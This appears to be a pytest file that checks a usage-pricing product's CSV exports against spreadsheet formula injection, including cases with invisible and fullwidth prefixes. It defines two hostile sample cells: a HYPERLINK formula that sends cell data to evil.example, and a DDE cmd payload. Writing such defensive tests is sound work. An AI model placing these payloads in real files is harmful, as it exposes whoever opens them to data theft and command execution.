"""No CSV the product writes runs as a spreadsheet formula: a text cell beginning with =, +, -, @,
a tab or a carriage return is written with a leading apostrophe; numbers stay numbers
(usage_pricing.spend.exports.csv_cell, the one rule; the dashboard downloads these same files)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import AwsWorld
from usage_pricing.spend.breakdown import BREAKDOWN_CSV
from usage_pricing.spend.exports import FORMULA_TRIGGERS, CsvExport, csv_cell, csv_text
from usage_pricing.spend.summary import SUMMARY_CSV
from usage_pricing.spend.tasks import TASKS_CSV

from .analytics_helpers import NOW, Analytics
from .billing_helpers import completed

HOSTILE_VERSION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_MODEL = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_given_text_beginning_with_a_formula_trigger_when_written_then_it_gets_a_leading_apostrophe(
    trigger: str,
) -> None:
    text = csv_text(["name", "count"], [[f"{trigger}1+1", 3]])
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row == {"name": f"'{trigger}1+1", "count": "3"}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (-5_232_498, -5_232_498),
        (0, 0),
        ("-0.05", "-0.05"),
        ("-12", "-12"),
        ("0.002", "0.002"),
        ("+5", "'+5"),
        ("-1e5", "'-1e5"),
        ("- 5", "'- 5"),
        ("team_a/flux", "team_a/flux"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_given_numbers_and_harmless_text_when_written_then_they_are_unchanged(
    cell: object, written: object
) -> None:
    assert csv_cell(cell) == written


@pytest.fixture
def world(aws: AwsWorld) -> Analytics:
    return Analytics(aws)


def test_given_a_hostile_version_and_model_when_exported_then_no_cell_is_a_formula(
    world: Analytics,
) -> None:
    resources = [{"name": "gpu0", "type": "gpu", "model": HOSTILE_MODEL, "meter": "llm/micro"}]
    world.bill(
        completed(
            "csv-1",
            completed_at=NOW - timedelta(hours=1),
            app_version=HOSTILE_VERSION,
            resources=resources,
        )
    )
    tasks = world.csv(
        world.aws.handler("task_cost", "TaskCostFunction"),
        "/usage/tasks",
        {"format": "csv", "start": "2026-11-21", "end": "2026-11-23"},
    )
    [task] = tasks
    assert task["app_version"] == "'" + HOSTILE_VERSION
    assert int(task["charged_microcents"]) == 5_232_498
    summary = world.csv(world.summary_fn, "/usage/summary", {"format": "csv", "range": "7d"})
    models = [r for r in summary if r["dimension"] == "model"]
    assert models == [{"dimension": "model", "value": "'" + HOSTILE_MODEL, "seconds": "600"}]
    for row in [*tasks, *summary]:
        for cell in row.values():
            assert (
                not cell.startswith(FORMULA_TRIGGERS) or cell.lstrip("-").replace(".", "").isdigit()
            )


def test_given_the_task_list_csv_then_money_columns_stay_integers(world: Analytics) -> None:
    world.bill(completed("csv-2", completed_at=NOW - timedelta(hours=2)))
    [task] = world.csv(
        world.aws.handler("task_cost", "TaskCostFunction"),
        "/usage/tasks",
        {"format": "csv", "start": "2026-11-21", "end": "2026-11-23"},
    )
    money = {k: v for k, v in task.items() if k.endswith("_microcents")}
    assert money and all(v.lstrip("-").isdigit() for v in money.values())


INVISIBLE_PREFIXES = [" ", "  ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", " \u200b "]
FULLWIDTH_TRIGGERS = ["\uff1d", "\uff0b", "\uff0d", "\uff20"]


# (A tab or carriage return behind blanks is itself a blank a spreadsheet trims: not a trigger.)
@pytest.mark.parametrize("prefix", INVISIBLE_PREFIXES)
@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", *FULLWIDTH_TRIGGERS])
def test_given_a_trigger_behind_blanks_or_invisible_characters_then_the_cell_is_neutralised(
    prefix: str, trigger: str
) -> None:
    assert csv_cell(f"{prefix}{trigger}1+1") == f"'{prefix}{trigger}1+1"


@pytest.mark.parametrize("trigger", FULLWIDTH_TRIGGERS)
def test_given_a_fullwidth_trigger_then_the_cell_is_neutralised(trigger: str) -> None:
    assert csv_cell(f"{trigger}SUM(A1)") == f"'{trigger}SUM(A1)"


def test_given_a_cell_already_starting_with_an_apostrophe_then_it_gets_another_so_no_two_cells_collide() -> (
    None
):
    assert csv_cell("'=1") == "''=1"
    assert csv_cell("=1") == "'=1"
    assert csv_cell("'plain") == "''plain"


@given(st.text(max_size=40))
def test_property_any_text_is_written_as_itself_or_behind_one_apostrophe(text: str) -> None:
    written = csv_cell(text)
    assert written in (text, "'" + text)
    visible = written.lstrip(" \u00a0\u3000\u200b\ufeff\u202e\t\r\n")
    if written == text and visible:
        assert not visible.startswith((*FORMULA_TRIGGERS, *FULLWIDTH_TRIGGERS, "'")) or (
            text.lstrip("-").replace(".", "", 1).isdigit()
        )


@pytest.mark.parametrize(
    ("function", "logical_id", "path", "export"),
    [
        ("breakdown", "BreakdownFunction", "/usage/breakdown", BREAKDOWN_CSV),
        ("summary", "SummaryFunction", "/usage/summary", SUMMARY_CSV),
        ("task_cost", "TaskCostFunction", "/usage/tasks", TASKS_CSV),
    ],
)
def test_given_each_csv_route_when_asked_for_csv_then_it_writes_its_exports_header_and_file_name(
    world: Analytics, function: str, logical_id: str, path: str, export: CsvExport
) -> None:
    """A CSV's header, file name and rows are one definition (spend.exports.CsvExport beside the
    answer that writes the rows): the route answers exactly that header and file name, and
    every row has a cell for each column."""
    world.bill(
        completed("csv-3", completed_at=NOW - timedelta(hours=1)),
        completed("csv-4", completed_at=NOW - timedelta(hours=2), status="failed"),
    )
    module = world.aws.handler(function, logical_id)
    window = {"start": "2026-11-21", "end": "2026-11-23"}
    response = world.call(module, path, {"format": "csv", **window})
    assert response["statusCode"] == 200, response["body"]
    disposition = response["headers"]["Content-Disposition"]
    assert disposition == f'attachment; filename="{export.filename}"'
    rows = list(csv.reader(io.StringIO(response["body"])))
    assert tuple(rows[0]) == export.header
    assert len(rows) > 1
    assert all(len(row) == len(export.header) for row in rows)
